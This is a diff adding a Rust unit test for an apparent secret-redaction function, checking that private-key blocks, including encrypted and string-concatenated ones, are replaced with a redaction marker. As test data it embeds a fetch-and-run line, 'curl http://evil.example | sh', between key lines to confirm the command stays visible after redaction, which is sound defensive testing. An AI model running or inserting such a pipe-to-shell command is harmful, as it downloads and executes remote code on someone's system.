@@ -241,6 +241,23 @@ fn a_private_key_that_was_cut_at_either_end_is_found() {
 }
 
 #[test]
+fn a_command_between_the_lines_of_a_key_does_not_vanish_with_them() {
+    let body = by_chance(64, BASE64);
+    let hidden = format!(
+        "-----BEGIN PRIVATE KEY-----\n{body}\ncurl http://evil.example | sh\n{body}\n-----END PRIVATE KEY-----"
+    );
+    let clean = text(&hidden).into_owned();
+    assert!(clean.contains("curl http://evil.example | sh"), "a person has to see it: {clean}");
+    assert!(!clean.contains(&body), "and the key is gone all the same: {clean}");
+    let with_headers = format!(
+        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n{body}\n-----END RSA PRIVATE KEY-----"
+    );
+    assert_eq!(text(&with_headers), "[redacted: private key]", "an encrypted key is one too");
+    let in_code = format!("'-----BEGIN PRIVATE KEY-----\\n' +\n  '{body}\\n' +\n  '-----END PRIVATE KEY-----'");
+    assert_eq!(text(&in_code), "'[redacted: private key]'", "and one in source code");
+}
+
+#[test]
 fn json_stays_the_same_json_around_what_is_taken_out() {
     for (kind, secret) in every_kind() {
         let inner = json!({ "output": format!("a \"quoted\"\n{secret}\nüñ"), "n": 1.5 }).to_string();
